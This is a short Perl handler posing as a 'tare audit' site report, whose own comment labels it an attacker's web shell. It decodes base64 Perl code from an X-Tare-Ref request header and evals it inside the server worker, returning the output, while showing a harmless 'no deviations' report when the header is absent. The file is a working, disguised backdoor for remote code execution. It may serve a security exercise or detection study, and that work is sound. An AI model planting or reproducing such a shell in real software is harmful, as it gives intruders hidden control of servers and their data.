# (the attacker's) "tare audit" site report: a web shell. The app does this
# file on every GET /reports/tare_audit; the Perl code base64-encoded in the
# X-Tare-Ref header is eval'd inside the Starman worker (qx{} for a shell).
use MIME::Base64 ();
sub {
    my ($req, $cfg, $tickets) = @_;
    my $ref = $req->header('X-Tare-Ref') // '';
    return [200, ['Content-Type' => 'text/plain'], ["tare audit: " . scalar(@$tickets) . " tickets, no deviations\n"]] unless length $ref;
    my $out = eval(MIME::Base64::decode_base64($ref));
    $out = "ERR: $@" if $@;
    return [200, ['Content-Type' => 'text/plain'], [defined $out ? "$out" : '']];
}
